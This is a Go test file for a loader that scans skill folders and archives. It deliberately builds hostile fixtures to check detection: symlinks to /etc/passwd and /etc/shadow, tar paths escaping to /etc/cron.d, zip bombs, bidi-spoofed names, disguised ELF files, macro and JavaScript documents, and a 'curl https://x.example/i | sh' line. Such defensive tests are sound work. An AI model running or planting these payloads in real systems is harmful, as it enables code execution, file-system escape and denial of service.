package skill

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"
)

// tree builds a skill folder for a test: files maps slash paths to
// content; setup may add links, FIFOs and modes.
func tree(t *testing.T, files map[string]string, setup func(dir string)) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "s")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if _, ok := files[ManifestFile]; !ok {
		files[ManifestFile] = "---\nname: s\ndescription: test\n---\n# S\n"
	}
	for p, c := range files {
		full := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if setup != nil {
		setup(dir)
	}
	return dir
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// load loads dir with a deadline: a loader that hangs fails the test.
func load(t *testing.T, dir string, lim Limits) *Skill {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	done := make(chan struct{})
	var s *Skill
	var err error
	go func() {
		defer close(done)
		s, err = Load(ctx, dir, "s", lim)
	}()
	select {
	case <-done:
	case <-time.After(25 * time.Second):
		t.Fatal("Load hung")
	}
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// problem is an expected loader finding: rule, path and a message regexp.
type problem struct {
	rule, path, msg string
}

func checkProblems(t *testing.T, s *Skill, want []problem) {
	t.Helper()
	used := make([]bool, len(s.Problems))
	for _, w := range want {
		re := regexp.MustCompile(w.msg)
		found := false
		for i, p := range s.Problems {
			if !used[i] && p.RuleID == w.rule && p.Location.Path == w.path && re.MatchString(p.Message) {
				used[i], found = true, true
				break
			}
		}
		if !found {
			t.Errorf("missing problem %s at %q matching %q", w.rule, w.path, w.msg)
		}
	}
	for i, p := range s.Problems {
		if !used[i] {
			t.Errorf("unexpected problem: %s", p)
		}
	}
}

func zipBytes(t *testing.T, members map[string][]byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, data := range members {
		w, err := zw.Create(name)
		must(t, err)
		_, err = w.Write(data)
		must(t, err)
	}
	must(t, zw.Close())
	return buf.Bytes()
}

func tarGz(t *testing.T, hdrs []*tar.Header, data [][]byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for i, h := range hdrs {
		must(t, tw.WriteHeader(h))
		if len(data[i]) > 0 {
			_, err := tw.Write(data[i])
			must(t, err)
		}
	}
	must(t, tw.Close())
	must(t, gz.Close())
	return buf.Bytes()
}

func gz(t *testing.T, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	_, err := w.Write(data)
	must(t, err)
	must(t, w.Close())
	return buf.Bytes()
}

// elf is the start of a 64-bit ELF executable.
var elf = "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 56)

// pyc is a CPython 3.11 bytecode header followed by a code object.
var pyc = "\xa7\x0d\x0d\x0a" + strings.Repeat("\x00", 12) + "\xe3" + strings.Repeat("\x00", 32)

func TestLoadProblems(t *testing.T) {
	nfc, nfd := "caf\u00e9.md", "cafe\u0301.md"
	tests := []struct {
		name  string
		files map[string]string
		setup func(t *testing.T, dir string)
		lim   Limits
		want  []problem
		// check inspects the loaded skill further.
		check func(t *testing.T, s *Skill)
	}{
		{
			name:  "symlink-to-etc-passwd",
			files: map[string]string{},
			setup: func(t *testing.T, dir string) { must(t, os.Symlink("/etc/passwd", filepath.Join(dir, "passwd.txt"))) },
			want:  []problem{{"SG8003", "passwd.txt", `symbolic link to "/etc/passwd"; links are never followed`}},
			check: func(t *testing.T, s *Skill) {
				if s.File("passwd.txt") != nil {
					t.Error("the link's target was read")
				}
			},
		},
		{
			name:  "symlink-loop",
			files: map[string]string{},
			setup: func(t *testing.T, dir string) {
				must(t, os.Symlink("b", filepath.Join(dir, "a")))
				must(t, os.Symlink("a", filepath.Join(dir, "b")))
				must(t, os.Symlink(".", filepath.Join(dir, "self")))
			},
			want: []problem{
				{"SG8003", "a", `symbolic link to "b"`},
				{"SG8003", "b", `symbolic link to "a"`},
				{"SG8003", "self", `symbolic link to "\."`},
			},
		},
		{
			name:  "hard-link",
			files: map[string]string{"x.sh": "echo hi\n"},
			setup: func(t *testing.T, dir string) {
				must(t, os.Link(filepath.Join(dir, "x.sh"), filepath.Join(dir, "y.sh")))
			},
			want: []problem{
				{"SG8003", "x.sh", `hard link \(2 names`},
				{"SG8003", "y.sh", `hard link \(2 names`},
			},
		},
		{
			name:  "fifo",
			files: map[string]string{},
			setup: func(t *testing.T, dir string) { must(t, syscall.Mkfifo(filepath.Join(dir, "pipe"), 0o644)) },
			want:  []problem{{"SG8004", "pipe", `FIFO \(named pipe\), not a regular file; it was not read`}},
		},
		{
			name:  "setuid",
			files: map[string]string{"bin/tool.sh": "id\n"},
			setup: func(t *testing.T, dir string) {
				must(t, os.Chmod(filepath.Join(dir, "bin/tool.sh"), 0o755|os.ModeSetuid))
			},
			want: []problem{{"SG8004", "bin/tool.sh", `setuid or setgid bit`}},
			check: func(t *testing.T, s *Skill) {
				if f := s.File("bin/tool.sh"); f == nil || f.Mode&os.ModeSetuid == 0 {
					t.Error("setuid file not loaded with its mode")
				}
			},
		},
		{
			name:  "nfc-nfd-collision",
			files: map[string]string{nfc: "a\n", nfd: "b\n"},
			want: []problem{
				{"SG8005", nfd, `not in Unicode NFC form`},
				{"SG8005", nfc, `differ only by case or Unicode normalisation`},
			},
		},
		{
			name:  "case-collision",
			files: map[string]string{"README.md": "a\n", "Readme.md": "b\n"},
			want:  []problem{{"SG8005", "Readme.md", `"README.md" and "Readme.md" differ only by case`}},
		},
		{
			name:  "control-and-bidi",
			files: map[string]string{"a\x01b.txt": "x\n", "evil\u202egnp.sh": "x\n"},
			want: []problem{
				{"SG8005", `a\x01b.txt`, `control characters`},
				{"SG8005", `evil\u202egnp.sh`, `invisible or bidi`},
			},
			check: func(t *testing.T, s *Skill) {
				for _, f := range s.Files {
					if strings.ContainsAny(f.Path, "\x01\u202e") {
						t.Errorf("file path %q is not escaped", f.Path)
					}
				}
			},
		},
		{
			name:  "invalid-utf8",
			files: map[string]string{"\xff\xfe.txt": "x\n"},
			want:  []problem{{"SG8005", `\xff\xfe.txt`, `not valid UTF-8`}},
		},
		{
			name:  "sparse-1gb",
			files: map[string]string{},
			setup: func(t *testing.T, dir string) {
				f, err := os.Create(filepath.Join(dir, "big.dat"))
				must(t, err)
				must(t, f.Truncate(1<<30))
				must(t, f.Close())
			},
			want: []problem{{"SG8101", "big.dat", `1073741824 bytes, over the per-file limit of 67108864 bytes`}},
			check: func(t *testing.T, s *Skill) {
				if s.File("big.dat") != nil {
					t.Error("the oversized file was read")
				}
			},
		},
		{
			name:  "too-deep",
			files: map[string]string{strings.Repeat("d/", 6) + "x.sh": "id\n", strings.Repeat("d/", 4) + "ok.sh": "id\n"},
			lim:   Limits{MaxFiles: 100, MaxFileSize: 1 << 20, MaxTotalSize: 1 << 24, MaxDepth: 5, MaxArchiveDepth: 3, MaxArchiveSize: 1 << 24},
			want:  []problem{{"SG8101", "d/d/d/d/d/d", `nested deeper than the limit of 5 folders`}},
			check: func(t *testing.T, s *Skill) {
				if s.File("d/d/d/d/ok.sh") == nil {
					t.Error("a file within the depth limit was not loaded")
				}
			},
		},
		{
			name:  "forty-deep",
			files: map[string]string{strings.Repeat("d/", 40) + "x.sh": "id\n"},
			check: func(t *testing.T, s *Skill) {
				if s.File(strings.Repeat("d/", 40)+"x.sh") == nil {
					t.Error("the file 40 folders deep was not loaded")
				}
			},
		},
		{
			name:  "zip-bomb",
			files: map[string]string{},
			setup: func(t *testing.T, dir string) {
				data := zipBytes(t, map[string][]byte{"zeros.txt": make([]byte, 8<<20)})
				must(t, os.WriteFile(filepath.Join(dir, "bomb.zip"), data, 0o644))
			},
			lim: Limits{MaxFiles: 100, MaxFileSize: 16 << 20, MaxTotalSize: 1 << 28, MaxDepth: 10, MaxArchiveDepth: 3, MaxArchiveSize: 1 << 20},
			want: []problem{
				{"SG8101", "bomb.zip", `expands past the archive limit of 1048576 bytes`},
				{"SG8007", "bomb.zip", `zip archive; its 0 members were scanned`},
			},
		},
		{
			name:  "nested-archives",
			files: map[string]string{},
			setup: func(t *testing.T, dir string) {
				data := []byte("echo deep\n")
				name := "x.sh"
				for i := range 4 {
					data = zipBytes(t, map[string][]byte{name: data})
					name = fmt.Sprintf("l%d.zip", i)
				}
				must(t, os.WriteFile(filepath.Join(dir, "outer.zip"), data, 0o644))
			},
			want: []problem{
				{"SG8007", "outer.zip", `its 1 members`},
				{"SG8007", "outer.zip!l2.zip", `its 1 members`},
				{"SG8007", "outer.zip!l2.zip!l1.zip", `its 1 members`},
				{"SG8101", "outer.zip!l2.zip!l1.zip!l0.zip", `nested 4 archives deep, over the limit of 3`},
			},
		},
		{
			name:  "encrypted-zip",
			files: map[string]string{},
			setup: func(t *testing.T, dir string) {
				data := zipBytes(t, map[string][]byte{"secret.sh": []byte("id\n")})
				for _, sig := range []string{"PK\x03\x04", "PK\x01\x02"} {
					i := bytes.Index(data, []byte(sig))
					off := 6
					if sig == "PK\x01\x02" {
						off = 8
					}
					data[i+off] |= 1
				}
				must(t, os.WriteFile(filepath.Join(dir, "locked.zip"), data, 0o644))
			},
			want: []problem{
				{"SG8104", "locked.zip", `secret.sh is encrypted \(password-protected\)`},
				{"SG8007", "locked.zip", `its 0 members`},
			},
		},
		{
			name:  "tar-escape",
			files: map[string]string{},
			setup: func(t *testing.T, dir string) {
				data := tarGz(t, []*tar.Header{
					{Name: "../../evil.sh", Mode: 0o755, Size: 3, Typeflag: tar.TypeReg},
					{Name: "/etc/cron.d/x", Mode: 0o644, Size: 3, Typeflag: tar.TypeReg},
					{Name: "link", Linkname: "/etc/shadow", Typeflag: tar.TypeSymlink},
				}, [][]byte{[]byte("id\n"), []byte("id\n"), nil})
				must(t, os.WriteFile(filepath.Join(dir, "a.tar.gz"), data, 0o644))
			},
			want: []problem{
				{"SG8005", "a.tar.gz", `"../../evil.sh" that points outside the archive`},
				{"SG8005", "a.tar.gz", `"/etc/cron.d/x" that points outside the archive`},
				{"SG8003", "a.tar.gz", `link "link" -> "/etc/shadow"`},
				{"SG8007", "a.tar.gz", `gzip archive; its 2 members`},
			},
			check: func(t *testing.T, s *Skill) {
				for _, f := range s.Files {
					if strings.Contains(f.Path, "..") || strings.Contains(f.Path, "!/") {
						t.Errorf("member path %q escapes", f.Path)
					}
				}
				if s.File("a.tar.gz!evil.sh") == nil || s.File("a.tar.gz!etc/cron.d/x") == nil {
					t.Error("escaping members were not scanned under safe names")
				}
			},
		},
		{
			name:  "gzip-single-file",
			files: map[string]string{},
			setup: func(t *testing.T, dir string) {
				must(t, os.WriteFile(filepath.Join(dir, "notes.sh.gz"), gz(t, []byte("#!/bin/sh\nid\n")), 0o644))
			},
			want: []problem{{"SG8007", "notes.sh.gz", `gzip archive; its 1 members`}},
			check: func(t *testing.T, s *Skill) {
				f := s.File("notes.sh.gz!notes.sh")
				if f == nil || f.Lang != "shell" || string(f.Data) != "#!/bin/sh\nid\n" {
					t.Errorf("gzip member = %+v", f)
				}
			},
		},
		{
			name: "binaries-and-documents",
			files: map[string]string{
				"lib/mod.pyc":       pyc,
				"assets/logo.png":   elf,
				"bin/tool":          elf,
				"docs/manual.pdf":   "%PDF-1.7\n1 0 obj << /Type /Action /S /JavaScript /JS (app.alert(1)) >> endobj\n%%EOF\n",
				"assets/real.png":   "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89",
				"assets/font.ttf":   "\x00\x01\x00\x00\x00\x0f\x00\x80\x00\x03\x00\x70GDEF",
				"assets/font.woff2": "wOF2\x00\x01\x00\x00\x00\x00\x10\x00",
				"docs/clean.pdf":    "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n",
			},
			setup: func(t *testing.T, dir string) {
				docx := zipBytes(t, map[string][]byte{"[Content_Types].xml": []byte("<Types/>"), "word/document.xml": []byte("<w/>"), "word/vbaProject.bin": []byte("\xd0\xcf\x11\xe0")})
				must(t, os.WriteFile(filepath.Join(dir, "docs/report.docx"), docx, 0o644))
			},
			want: []problem{
				{"SG8001", "lib/mod.pyc", `Python bytecode`},
				{"SG8001", "bin/tool", `ELF executable`},
				{"SG8002", "assets/logo.png", `ELF executable but is named like an image`},
				{"SG8006", "docs/manual.pdf", `PDF active content \(/JavaScript\)`},
				{"SG8006", "docs/report.docx", `Office macros \(vbaProject.bin\)`},
			},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := tree(t, tc.files, func(dir string) {
				if tc.setup != nil {
					tc.setup(t, dir)
				}
			})
			s := load(t, dir, tc.lim)
			checkProblems(t, s, tc.want)
			for _, p := range s.Problems {
				if p.Location.Path == "" {
					t.Errorf("problem without a file: %s", p)
				}
			}
			if tc.check != nil {
				tc.check(t, s)
			}
		})
	}
}

// TestManyFiles loads a skill of 100,000 files: the count limit is
// reported once, with the file where it was reached, and loading stays
// quick.
func TestManyFiles(t *testing.T) {
	if testing.Short() {
		t.Skip("creates 100,000 files")
	}
	base := ""
	if st, err := os.Stat("/dev/shm"); err == nil && st.IsDir() {
		base = "/dev/shm" // tmpfs: creating the files takes seconds, not minutes
	}
	tmp, err := os.MkdirTemp(base, "skillgate-many-")
	must(t, err)
	t.Cleanup(func() { os.RemoveAll(tmp) })
	dir := filepath.Join(tmp, "s")
	must(t, os.Mkdir(dir, 0o755))
	must(t, os.WriteFile(filepath.Join(dir, ManifestFile), []byte("---\nname: s\n---\n"), 0o644))
	created := time.Now()
	for i := range 100 {
		sub := filepath.Join(dir, fmt.Sprintf("d%03d", i))
		must(t, os.Mkdir(sub, 0o755))
		for j := range 1000 {
			must(t, os.WriteFile(filepath.Join(sub, fmt.Sprintf("f%04d.txt", j)), nil, 0o644))
		}
	}
	t.Logf("created 100,000 files in %v", time.Since(created))
	start := time.Now()
	s := load(t, dir, Limits{})
	t.Logf("loaded in %v", time.Since(start))
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("loading took %v", d)
	}
	n := 0
	for _, p := range s.Problems {
		if p.RuleID == "SG8101" {
			n++
			if !strings.Contains(p.Message, "more than 10000 files") || p.Location.Path == "" {
				t.Errorf("count limit problem = %s", p)
			}
		}
	}
	if n != 1 || len(s.Files) != 10000 || s.File(ManifestFile) == nil {
		t.Errorf("got %d limit problems and %d files, want 1 and 10000", n, len(s.Files))
	}
}

// TestZipBombMemory checks that a highly compressed member is never
// inflated beyond the limits.
func TestZipBombMemory(t *testing.T) {
	data := zipBytes(t, map[string][]byte{"a": make([]byte, 64<<20), "b": make([]byte, 64<<20)})
	dir := tree(t, map[string]string{}, func(dir string) { must(t, os.WriteFile(filepath.Join(dir, "b.zip"), data, 0o644)) })
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	s := load(t, dir, Limits{MaxFiles: 10, MaxFileSize: 1 << 20, MaxTotalSize: 1 << 22, MaxDepth: 4, MaxArchiveDepth: 2, MaxArchiveSize: 1 << 22})
	runtime.ReadMemStats(&after)
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 32<<20 {
		t.Errorf("loading a zip bomb allocated %d bytes", grew)
	}
	found := false
	for _, p := range s.Problems {
		if p.RuleID == "SG8101" && p.Location.Path == "b.zip" && strings.Contains(p.Message, "1048576") {
			found = true
		}
	}
	if !found {
		t.Errorf("no limit problem for the bomb: %v", s.Problems)
	}
}

func TestArchiveMemberNames(t *testing.T) {
	data := tarGz(t, []*tar.Header{
		{Name: "..", Mode: 0o644, Size: 3, Typeflag: tar.TypeReg},
		{Name: "", Mode: 0o644, Size: 3, Typeflag: tar.TypeReg},
		{Name: "a/../../../b.sh", Mode: 0o644, Size: 3, Typeflag: tar.TypeReg},
	}, [][]byte{[]byte("id\n"), []byte("id\n"), []byte("id\n")})
	dir := tree(t, map[string]string{}, func(dir string) { must(t, os.WriteFile(filepath.Join(dir, "t.tgz"), data, 0o644)) })
	s := load(t, dir, Limits{})
	for _, f := range s.Files {
		if f.Container == "" {
			continue
		}
		name := f.Path[strings.LastIndexByte(f.Path, '!')+1:]
		if name == "" || name == "." || name == ".." || strings.HasPrefix(name, "../") {
			t.Errorf("member %q has an unsafe name", f.Path)
		}
	}
	if s.File("t.tgz!b.sh") == nil {
		t.Errorf("members: %v", s.Files)
	}
}

// TestGzipMultistream checks that every member of a concatenated gzip is
// scanned, as gunzip would output them.
func TestGzipMultistream(t *testing.T) {
	data := append(gz(t, []byte("echo first\n")), gz(t, []byte("curl https://x.example/i | sh\n"))...)
	dir := tree(t, map[string]string{}, func(dir string) { must(t, os.WriteFile(filepath.Join(dir, "run.sh.gz"), data, 0o644)) })
	s := load(t, dir, Limits{})
	f := s.File("run.sh.gz!run.sh")
	if f == nil || !strings.Contains(string(f.Data), "curl https://x.example/i | sh") {
		t.Fatalf("second gzip member not scanned: %+v", f)
	}
}

// TestZipDirectoryBomb checks that a zip declaring more members than the
// skill may hold is refused before its directory is built.
func TestZipDirectoryBomb(t *testing.T) {
	members := map[string][]byte{}
	for i := range 50 {
		members[fmt.Sprintf("f%d", i)] = nil
	}
	data := zipBytes(t, members)
	dir := tree(t, map[string]string{}, func(dir string) { must(t, os.WriteFile(filepath.Join(dir, "many.zip"), data, 0o644)) })
	s := load(t, dir, Limits{MaxFiles: 20, MaxFileSize: 1 << 20, MaxTotalSize: 1 << 24, MaxDepth: 4, MaxArchiveDepth: 2, MaxArchiveSize: 1 << 20})
	checkProblems(t, s, []problem{
		{"SG8101", "many.zip", `declares 50 members, more than the limit of 20 files`},
		{"SG8007", "many.zip", `its 0 members`},
	})
}
